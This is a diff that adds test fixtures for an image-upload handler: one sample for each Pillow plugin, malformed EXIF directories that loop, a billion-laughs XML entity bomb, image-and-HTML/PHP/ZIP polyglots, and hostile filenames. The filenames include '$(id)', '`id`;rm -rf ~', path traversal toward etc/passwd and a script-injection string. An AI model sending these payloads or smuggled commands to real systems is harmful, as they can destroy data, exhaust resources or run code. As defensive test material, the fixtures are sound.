@@ -447,3 +447,181 @@ def as_upright(picture: Image.Image, orientation: int, format: str) -> bytes:
     # As bytes: pillow-heif writes its own turn from it, as phones do, and leaves
     # the EXIF one standing beside it.
     return saved(stored, format, exif=exif.tobytes(), quality=90)
+
+
+# --- one sample of each kind that Pillow can open -----------------------------------
+
+
+def _as(format: str, mode: str = "RGB") -> Maker:
+    return lambda: saved(drawn(256, 256).convert(mode), format)
+
+
+def _begins(head: bytes, at: int = 0) -> Maker:
+    """Return a maker of bytes that Pillow's plugin takes for its own kind."""
+    return lambda: bytes(at) + head + bytes(4096)
+
+
+#: By Pillow's name of the plugin; those of the kinds that are taken are elsewhere.
+OF_EACH_PLUGIN: dict[str, Maker] = {
+    "BLP": _as("BLP", "P"),
+    "BMP": _as("BMP"),
+    "BUFR": _begins(b"BUFR"),
+    "CUR": _begins(b"\x00\x00\x02\x00\x01\x00\x20\x20"),
+    "DCX": _begins(struct.pack("<I", 0x3ADE68B1)),
+    "DDS": _as("DDS"),
+    "DIB": _as("DIB"),
+    "EPS": _as("EPS"),
+    "FITS": _begins(b"SIMPLE  =                    T"),
+    "FLI": _begins(struct.pack("<IHHHHHHH", 4224, 0xAF12, 1, 256, 256, 8, 3, 0)),
+    "FTEX": _begins(b"FTEX"),
+    "GBR": _begins(struct.pack(">IIIII", 28, 2, 256, 256, 4)),
+    "GIF": _as("GIF", "P"),
+    "GRIB": _begins(b"GRIB\x00\x00\x00\x01"),
+    "HDF5": _begins(b"\x89HDF\r\n\x1a\n"),
+    "ICNS": _as("ICNS"),
+    "ICO": _as("ICO"),
+    "IM": _begins(b"Image type: RGB image\r\nImage size (x*y): 256*256\r\n"),
+    "IMT": lambda: b"*name holiday\nwidth 256\nheight 256\n\x0c" + bytes(65536),
+    "IPTC": _begins(b"\x1c\x02\x00\x00\x02\x00\x04"),
+    "JPEG2000": _as("JPEG2000"),
+    "MCIDAS": _begins(b"\x00\x00\x00\x00\x00\x00\x00\x04"),
+    "MPEG": _begins(b"\x00\x00\x01\xb3\x10\x01\x00\x13"),
+    "MSP": _as("MSP", "1"),
+    "PCD": _begins(b"PCD_IPI", at=2048),
+    "PCX": _as("PCX"),
+    "PIXAR": _begins(b"\x80\xe8\x00\x00"),
+    "PPM": _as("PPM"),
+    "PSD": _begins(b"8BPS\x00\x01"),
+    "QOI": _as("QOI"),
+    "SGI": _as("SGI"),
+    "SPIDER": _as("SPIDER", "F"),
+    "SUN": _begins(b"\x59\xa6\x6a\x95" + struct.pack(">II", 256, 256)),
+    "TGA": _as("TGA"),
+    "TIFF": _as("TIFF"),
+    "WMF": _begins(b"\xd7\xcd\xc6\x9a\x00\x00"),
+    "XBM": _as("XBM", "1"),
+    "XPM": _begins(b'/* XPM */\nstatic char *x[] = {\n"256 256 2 1",\n'),
+    "XVTHUMB": _begins(b"P7 332\n#END_OF_COMMENTS\n80 60 255\n"),
+}
+
+
+# --- metadata that turns in circles, and files that are two things -------------------
+
+
+def _tiff(*directory: bytes, follows: int = 0) -> bytes:
+    """Return a TIFF header and one directory; ``follows`` points to the next."""
+    count = struct.pack("<H", len(directory))
+    return (
+        b"II*\x00\x08\x00\x00\x00"
+        + count
+        + b"".join(directory)
+        + struct.pack("<I", follows)
+    )
+
+
+def _entry(tag: int, kind: int, count: int, value: int) -> bytes:
+    return struct.pack("<HHII", tag, kind, count, value)
+
+
+LOOPS: dict[str, bytes] = {
+    "next_is_itself": _tiff(_entry(0x0112, 3, 1, 1), follows=8),
+    "camera_is_itself": _tiff(_entry(0x8769, 4, 1, 8)),
+    "location_is_itself": _tiff(_entry(0x8825, 4, 1, 8), _entry(0x8769, 4, 1, 8)),
+    "thumbnails_in_a_ring": _tiff(_entry(0x014A, 4, 1, 8), follows=8),
+    "four_billion_values": _tiff(_entry(0x010F, 2, 0xFFFFFFFF, 8)),
+    "value_behind_the_end": _tiff(_entry(0x010F, 2, 1000, 0xFFFFFF00)),
+    "thousands_of_entries": _tiff(*[_entry(0x010F, 2, 60_000, 8)] * 5000),
+    "orientation_of_999": _tiff(_entry(0x0112, 3, 1, 999)),
+    "orientation_of_text": _tiff(_entry(0x0112, 2, 4, 0x41414141)),
+    "no_directory": b"II*\x00\xff\xff\xff\x7f",
+    "no_header": b"CANARY" * 100,
+}
+
+
+def loop_in_jpeg(name: str) -> bytes:
+    block = b"Exif\x00\x00" + LOOPS[name]
+    return jpeg_with(picture_bytes(400, 300), segment(0xE1, block[:65_000]))
+
+
+def loop_in_png(name: str) -> bytes:
+    return png(400, 300, chunk(b"eXIf", LOOPS[name]), depth=8, colour=2)
+
+
+def billion_laughs() -> bytes:
+    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
+    packet = (
+        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]>'
+        "<x:xmpmeta xmlns:x='adobe:ns:meta/'>&l11;</x:xmpmeta>"
+    ).encode()
+    block = b"http://ns.adobe.com/xap/1.0/\x00" + packet
+    return jpeg_with(picture_bytes(400, 300), segment(0xE1, block))
+
+
+def motion_photo() -> bytes:
+    film = struct.pack(">I", 24) + b"ftypmp42\x00\x00\x00\x00isommp42"
+    return picture_bytes(400, 300) + film + b"CANARY of the film" * 2000
+
+
+def page_in_png(page: bytes) -> bytes:
+    text = chunk(b"tEXt", b"Comment\x00" + page)
+    return png(400, 300, text, depth=8, colour=2) + page
+
+
+PAGE = b"<!DOCTYPE html><script>fetch('//x/'+'CANARY')</script><?php id(); ?>"
+
+ODD_BUT_HONEST: dict[str, Maker] = {
+    **{f"exif_{n}.jpg": (lambda n=n: loop_in_jpeg(n)) for n in LOOPS},
+    **{f"exif_{n}.png": (lambda n=n: loop_in_png(n)) for n in LOOPS},
+    "billion_laughs.jpg": billion_laughs,
+    "motion_photo.jpg": motion_photo,
+    "page.png": lambda: page_in_png(PAGE),
+    "page.webp.html": lambda: picture_bytes(400, 300, format="WEBP") + PAGE,
+    "script.js": lambda: jpeg_with(
+        picture_bytes(400, 300), segment(0xFE, b"=1;/*CANARY*/alert(1)//")
+    ),
+    "archive.zip": lambda: picture_bytes(400, 300) + b"PK\x03\x04CANARY" + bytes(99),
+    "broken_profile.jpg": lambda: saved(
+        drawn(400, 300), "JPEG", icc_profile=b"CANARY" * 50
+    ),
+    "picture_in_picture.jpg": lambda: jpeg_with(
+        picture_bytes(400, 300),
+        segment(0xE0, b"JFXX\x00\x10" + picture_bytes(200, 200)[:20_000]),
+    ),
+}
+
+TWO_THINGS: dict[str, tuple[Maker, str]] = {
+    "gifar.gif": (lambda: gif(1) + b"PK\x03\x04" + bytes(99), "unsupported_format"),
+    "paper_with_picture.jpg": (
+        lambda: b"%PDF-1.7\n" + picture_bytes(400, 300),
+        "not_a_picture",
+    ),
+    "page_with_picture.jpg": (lambda: PAGE + picture_bytes(400, 300), "not_a_picture"),
+    "archive_with_picture.jpg": (
+        lambda: b"PK\x03\x04" + bytes(26) + picture_bytes(400, 300),
+        "not_a_picture",
+    ),
+}
+
+#: Names as phones, foreign systems and attackers give them.
+NAMES = (
+    "IMG_0001.HEIC.jpg",
+    "Über uns – 50 % größer.jpg",
+    "照片 (1).jpeg",
+    "🌻🌻🌻.png",
+    " leading and trailing .jpg ",
+    "no extension",
+    "a" * 240 + ".jpg",
+    "CON.jpg",
+    "photo.jpg.exe",
+    "photo.php",
+    "$(id).jpg",
+    "`id`;rm -rf ~.jpg",
+    "'quoted' \"twice\".jpg",
+    "<script>alert(1)</script>.jpg".replace("/", "∕"),
+    "%00%2e%2e%2fetc%2fpasswd.jpg",
+    "..jpg",
+    "photo\u202egpj.exe",
+    "line\nbreak.jpg",
+    "tab\there.jpg",
+    "bell\x07.jpg",
+)
